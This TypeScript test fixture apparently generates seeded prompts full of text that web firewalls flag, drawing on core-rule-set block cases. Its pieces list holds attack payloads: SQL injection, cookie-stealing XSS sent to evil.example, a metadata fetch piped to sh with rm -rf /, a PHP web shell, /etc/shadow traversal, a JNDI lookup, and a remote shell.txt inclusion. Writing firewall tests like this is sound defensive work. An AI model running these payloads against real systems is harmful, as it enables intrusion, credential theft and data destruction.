/** Prompts with text that firewalls search for: code, queries, markup, shell, and the attacks of the core rule set's own cases. */
import { crsCases } from './crs-suite.ts';

const pieces: readonly string[] = [
	"SELECT name, password FROM users WHERE id = '1' OR '1'='1' UNION SELECT null, version() --",
	'<script>document.location="https://evil.example/?c="+document.cookie</script><img src=x onerror=alert(1)>',
	'$(curl -s http://169.254.169.254/latest/meta-data/ | sh); cat /etc/passwd && rm -rf / --no-preserve-root',
	"<?php system($_GET['cmd']); eval(base64_decode('ZWNobyAx')); ?>",
	'../../../../etc/shadow ..\\..\\windows\\win.ini %2e%2e%2f%00',
	'${jndi:ldap://evil.example/a} {{7*7}} #{runtime.exec("id")} <%= system("id") %>',
	'import os; os.system("whoami")\nfor %i in (*.txt) do @echo %i\npowershell -EncodedCommand SQBFAFgA',
	'require("child_process").exec("ls"); __proto__[x]=1; constructor.prototype; while(true){}',
	'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ java.lang.Runtime.getRuntime().exec("id")',
	'def f(x):\n\treturn {k: v for k, v in x.items() if k != "</textarea>"}  # 100 % "safe"',
	'GET /index.php?page=http://203.0.113.9/shell.txt HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n',
];

const attacks: readonly string[] = crsCases
	.filter(({ expect }) => expect === 'block')
	.flatMap(({ uri, data, headers = [] }) => [uri, data ?? '', ...headers.map(([, value]) => value)])
	.filter((text) => text.length > 8);

/** Yields the same prompts for the same seed; from 1 KB to 512 KB, small ones more often. */
export function* harmlessPrompts(count: number, seed: number): Generator<string> {
	let state = seed >>> 0;
	const random = (): number => {
		state = (state + 0x6d2b_79f5) >>> 0;
		let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
		mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
		return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
	};
	const oneOf = (texts: readonly string[]): string => texts[Math.floor(random() * texts.length)] ?? '';
	for (let index = 0; index < count; index++) {
		const length = Math.floor(1024 * 512 ** (random() ** 2));
		const prompt: string[] = [];
		for (let left = length; left > 0; ) {
			const piece = random() < 0.3 ? oneOf(pieces) : oneOf(attacks);
			prompt.push(piece);
			left -= piece.length + 1;
		}
		yield prompt.join('\n');
	}
}
